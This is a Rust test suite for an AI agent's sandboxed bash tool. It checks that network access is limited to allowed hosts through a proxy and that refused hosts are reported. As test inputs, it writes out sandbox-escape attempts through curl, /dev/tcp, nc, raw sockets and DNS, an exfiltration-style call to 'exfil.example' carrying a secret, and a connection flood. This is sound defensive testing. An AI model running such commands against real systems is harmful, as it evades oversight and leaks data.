//! The network by domain: in `workspace-write` commands live in their session's network
//! namespace, whose only way out is keel's proxy, which lets through only allowed hosts.
//! Every way a command might reach a listener of the host that is not allowed (curl, wget,
//! python, node, bash's `/dev/tcp`, a raw socket, DNS, UDP) must fail, at the kernel, not
//! by a tool's good will; an allowed host answers through the proxy; the command's own
//! loopback is its own; and the model is told which host was refused and how to allow it.
//!
//! These run the bash tool directly (no permission gate in between: the gate would refuse
//! some of these commands before the kernel is tried).
#![allow(clippy::unwrap_used, clippy::expect_used, missing_docs)]

mod common;

use std::io::{Read as _, Write as _};
use std::net::{TcpListener, UdpSocket};
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use keel_agent::AgentTool;
use keel_protocol::ContentBlock;
use keel_tools::bash::Bash;
use keel_tools::netproxy::NetworkRules;
use keel_tools::{EnvMode, SandboxMode, ToolEnv};
use serde_json::json;

/// The answer the host's listener gives, so a test can tell it was reached.
const ANSWER: &str = "KEELNET-host-listener-answer";

/// Whether commands here get a private network (namespaces with network, and Landlock).
fn proxied_here() -> bool {
    let support = keel_sandbox::support();
    let ok = support.landlock.is_ok() && support.namespaces.as_ref().is_ok_and(|ns| ns.network);
    if !ok {
        eprintln!("skipped: this system cannot give commands a network of their own");
    }
    if !has("curl") {
        eprintln!("skipped: no curl here");
        return false;
    }
    ok
}

/// A listener on the host's loopback that answers every connection with [`ANSWER`], and
/// counts them; and a UDP socket that counts datagrams.
struct HostListener {
    port: u16,
    udp_port: u16,
    connections: Arc<AtomicUsize>,
    datagrams: Arc<AtomicUsize>,
}

impl HostListener {
    fn start() -> Self {
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = tcp.local_addr().unwrap().port();
        let connections = Arc::new(AtomicUsize::new(0));
        let seen = connections.clone();
        std::thread::spawn(move || {
            for mut stream in tcp.incoming().flatten() {
                seen.fetch_add(1, Ordering::SeqCst);
                let _ = stream.set_read_timeout(Some(Duration::from_millis(500)));
                let mut buf = [0u8; 1024];
                let _ = stream.read(&mut buf);
                let _ = write!(
                    stream,
                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{ANSWER}",
                    ANSWER.len()
                );
            }
        });
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        let udp_port = udp.local_addr().unwrap().port();
        let datagrams = Arc::new(AtomicUsize::new(0));
        let got = datagrams.clone();
        std::thread::spawn(move || {
            let mut buf = [0u8; 512];
            while udp.recv(&mut buf).is_ok() {
                got.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self {
            port,
            udp_port,
            connections,
            datagrams,
        }
    }
}

fn tool(ws: &std::path::Path, rules: NetworkRules) -> Bash {
    let mut env = ToolEnv::new(ws.to_path_buf());
    env.sandbox = SandboxMode::WorkspaceWrite;
    env.env_mode = Some(EnvMode::Scrub);
    env.network = rules;
    Bash::new(Arc::new(env))
}

async fn run(bash: &Bash, command: &str) -> String {
    let out = bash
        .execute(
            json!({"command": command, "timeout": 60000}),
            common::context(),
        )
        .await
        .map_or_else(
            |e| e.to_string(),
            |out| {
                out.content
                    .iter()
                    .filter_map(ContentBlock::as_text)
                    .collect::<Vec<_>>()
                    .join("\n")
            },
        );
    println!("$ {command}\n{out}\n");
    out
}

/// curl to `localhost:port` through the proxy by name (`localhost` is direct by default:
/// the command's own loopback).
fn through_proxy(port: u16) -> String {
    format!("curl -sS -m 20 -x http://127.0.0.1:3128 --noproxy '' http://localhost:{port}/")
}

fn has(program: &str) -> bool {
    std::process::Command::new("sh")
        .args(["-c", &format!("command -v {program}")])
        .stdout(std::process::Stdio::null())
        .status()
        .is_ok_and(|s| s.success())
}

#[tokio::test]
async fn no_way_reaches_a_host_listener_that_is_not_allowed() {
    if !proxied_here() {
        return;
    }
    let host = HostListener::start();
    let ws = tempfile::tempdir().unwrap();
    let bash = tool(ws.path(), NetworkRules::default());
    let (p, u) = (host.port, host.udp_port);
    let mut attempts = vec![
        format!("curl -sS -m 5 http://127.0.0.1:{p}/"),
        format!("curl -sS -m 5 --noproxy '*' http://127.0.0.1:{p}/"),
        format!("curl -sS -m 5 -x http://127.0.0.1:3128 --noproxy '' http://127.0.0.1:{p}/"),
        format!(
            "curl -sS -m 5 --noproxy '' --socks5-hostname 127.0.0.1:3128 http://127.0.0.1:{p}/"
        ),
        format!(
            "exec 3<>/dev/tcp/127.0.0.1/{p} && printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3"
        ),
        // DNS: a name asked of the system's resolver (a tunnel would carry data in it).
        "getent hosts keel-canary-tunnel.example || echo no-dns".to_owned(),
    ];
    if has("wget") {
        attempts.push(format!("wget -q -T 5 -O - http://127.0.0.1:{p}/"));
    }
    if has("python3") {
        attempts.push(format!(
            "python3 -c \"import urllib.request as u; print(u.urlopen('http://127.0.0.1:{p}/', timeout=5).read())\""
        ));
        attempts.push(format!(
            "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {p}), timeout=5); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'); print(s.recv(100))\""
        ));
        attempts.push(format!(
            "python3 -c \"import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); [s.sendto(b'x', ('127.0.0.1', {u})) for _ in range(3)]; print('sent')\""
        ));
        attempts.push(
            "python3 -c \"import socket; print(socket.getaddrinfo('keel-canary-tunnel.example', 53))\""
                .to_owned(),
        );
    }
    if has("node") {
        attempts.push(format!(
            "node -e \"require('http').get('http://127.0.0.1:{p}/', r => r.on('data', d => console.log(String(d)))).on('error', e => console.log(e.code))\""
        ));
    }
    if has("nc") {
        attempts.push(format!("echo hi | nc -w 3 127.0.0.1 {p}"));
        attempts.push(format!("echo hi | nc -u -w 1 127.0.0.1 {u}"));
    }
    for attempt in &attempts {
        let out = run(&bash, attempt).await;
        assert!(!out.contains(ANSWER), "reached the host: {attempt}\n{out}");
    }
    // Give a datagram in flight the time to land.
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(
        host.connections.load(Ordering::SeqCst),
        0,
        "a connection reached the host"
    );
    assert_eq!(
        host.datagrams.load(Ordering::SeqCst),
        0,
        "a datagram reached the host"
    );
}

#[tokio::test]
async fn an_allowed_host_answers_through_the_proxy_and_a_refused_one_is_named() {
    if !proxied_here() {
        return;
    }
    let host = HostListener::start();
    let ws = tempfile::tempdir().unwrap();
    let bash = tool(ws.path(), NetworkRules::new(["localhost".to_owned()], []));
    let p = host.port;
    let out = run(&bash, &through_proxy(p)).await;
    assert!(out.contains(ANSWER), "{out}");
    let out = run(
        &bash,
        &format!(
            "curl -sS -m 10 --noproxy '' --socks5-hostname 127.0.0.1:3128 http://localhost:{p}/"
        ),
    )
    .await;
    assert!(out.contains(ANSWER), "{out}");
    assert_eq!(host.connections.load(Ordering::SeqCst), 2);
    // A host not on the list: refused, and the model is told which and where to allow it.
    let out = run(&bash, "curl -sS -m 10 https://exfil.example/x?k=secret").await;
    assert!(
        out.contains("refused network access to exfil.example:443"),
        "{out}"
    );
    assert!(out.contains("sandbox.network.allow"), "{out}");
}

#[tokio::test]
async fn the_commands_own_loopback_is_theirs() {
    if !proxied_here() || !has("python3") {
        return;
    }
    let ws = tempfile::tempdir().unwrap();
    std::fs::write(ws.path().join("index.html"), "own-server-page").unwrap();
    let bash = tool(ws.path(), NetworkRules::default());
    let out = run(
        &bash,
        "python3 -m http.server 18765 --bind 127.0.0.1 >/dev/null 2>&1 & \
         for i in $(seq 50); do curl -s http://127.0.0.1:18765/index.html && break; sleep 0.1; done; \
         kill %1",
    )
    .await;
    assert!(out.contains("own-server-page"), "{out}");
    // A server started in the background serves the session's next command too.
    let started = bash
        .execute(
            json!({"command": "exec python3 -m http.server 18766 --bind 127.0.0.1", "run_in_background": true}),
            common::context(),
        )
        .await;
    assert!(started.is_ok(), "{:?}", started.err());
    let out = run(
        &bash,
        "for i in $(seq 50); do curl -s http://127.0.0.1:18766/index.html && break; sleep 0.1; done",
    )
    .await;
    assert!(out.contains("own-server-page"), "{out}");
}

#[tokio::test]
async fn every_host_allowed_gives_the_hosts_network_and_full_access_is_unchanged() {
    if !proxied_here() {
        return;
    }
    let host = HostListener::start();
    let ws = tempfile::tempdir().unwrap();
    let p = host.port;
    let open = tool(ws.path(), NetworkRules::new(["*".to_owned()], []));
    let out = run(&open, &format!("curl -sS -m 5 http://127.0.0.1:{p}/")).await;
    assert!(out.contains(ANSWER), "{out}");
    let mut env = ToolEnv::new(ws.path().to_path_buf());
    env.sandbox = SandboxMode::DangerFullAccess;
    env.env_mode = Some(EnvMode::Scrub);
    let full = Bash::new(Arc::new(env));
    let out = run(&full, &format!("curl -sS -m 5 http://127.0.0.1:{p}/")).await;
    assert!(out.contains(ANSWER), "{out}");
}

/// Answers questions from a list, keeping each question.
struct Answers {
    answers: std::sync::Mutex<Vec<keel_tools::permission::Approval>>,
    asked: std::sync::Mutex<Vec<keel_tools::permission::ApprovalRequest>>,
}

#[async_trait::async_trait]
impl keel_tools::permission::Approver for Answers {
    async fn approve(
        &self,
        request: keel_tools::permission::ApprovalRequest,
    ) -> keel_tools::permission::Approval {
        self.asked.lock().unwrap().push(request);
        let mut answers = self.answers.lock().unwrap();
        if answers.is_empty() {
            keel_tools::permission::Approval::Deny(None)
        } else {
            answers.remove(0)
        }
    }
}

#[tokio::test]
async fn in_ask_mode_a_host_off_the_list_is_the_users_to_allow() {
    use keel_tools::permission::{Approval, Scope};
    if !proxied_here() {
        return;
    }
    let host = HostListener::start();
    let ws = tempfile::tempdir().unwrap();
    let answers = Arc::new(Answers {
        answers: std::sync::Mutex::new(vec![
            Approval::AllowOnce,
            Approval::Deny(None),
            Approval::AllowAlways(Scope {
                label: "for the session".into(),
                matchers: Vec::new(),
                saved: false,
            }),
        ]),
        asked: std::sync::Mutex::new(Vec::new()),
    });
    let mut env = ToolEnv::new(ws.path().to_path_buf());
    env.sandbox = SandboxMode::WorkspaceWrite;
    env.env_mode = Some(EnvMode::Scrub);
    env.network_asker = Some(keel_tools::netproxy::Asker(answers.clone()));
    let bash = Bash::new(Arc::new(env));
    let fetch = through_proxy(host.port);
    // Allowed once: it answers, and the question named the host and the call.
    let out = run(&bash, &fetch).await;
    assert!(out.contains(ANSWER), "{out}");
    {
        let asked = answers.asked.lock().unwrap();
        assert_eq!(asked.len(), 1);
        assert_eq!(
            asked[0].summary,
            format!("connect to localhost:{}", host.port)
        );
        assert_eq!(asked[0].tool_call_id.as_str(), "c1");
        assert!(
            asked[0].scopes[0].label.contains("localhost"),
            "{:?}",
            asked[0].scopes
        );
    }
    // Once means once: asked again, refused this time, and the model told.
    let out = run(&bash, &fetch).await;
    assert!(!out.contains(ANSWER), "{out}");
    assert!(out.contains("refused network access to localhost"), "{out}");
    // For the session: asked a third time, then never again.
    assert!(run(&bash, &fetch).await.contains(ANSWER));
    assert!(run(&bash, &fetch).await.contains(ANSWER));
    assert_eq!(answers.asked.lock().unwrap().len(), 3);
    assert_eq!(host.connections.load(Ordering::SeqCst), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_connections_cannot_use_up_keels_descriptors() {
    if !proxied_here() || !has("python3") {
        return;
    }
    let host = HostListener::start();
    let ws = tempfile::tempdir().unwrap();
    let bash = Arc::new(tool(
        ws.path(),
        NetworkRules::new(["localhost".to_owned()], []),
    ));
    let open_fds = || std::fs::read_dir("/proc/self/fd").unwrap().count();
    let before = open_fds();
    let flood = {
        let bash = bash.clone();
        tokio::spawn(async move {
            run(
                &bash,
                "python3 -c \"import socket, time\nheld = []\nfor _ in range(400):\n    try:\n        held.append(socket.create_connection(('127.0.0.1', 3128), timeout=2))\n    except OSError:\n        break\nprint('opened', len(held))\ntime.sleep(1)\"",
            )
            .await
        })
    };
    let mut most = 0;
    for _ in 0..30 {
        tokio::time::sleep(Duration::from_millis(50)).await;
        most = most.max(open_fds().saturating_sub(before));
    }
    let out = flood.await.unwrap();
    assert!(out.contains("opened"), "{out}");
    // At most 256 held connections (one descriptor each while they say nothing), plus the
    // command's own pipes.
    assert!(
        most < 300,
        "keel held {most} more descriptors during the flood"
    );
    // And the proxy serves on.
    let out = run(&bash, &through_proxy(host.port)).await;
    assert!(out.contains(ANSWER), "{out}");
}
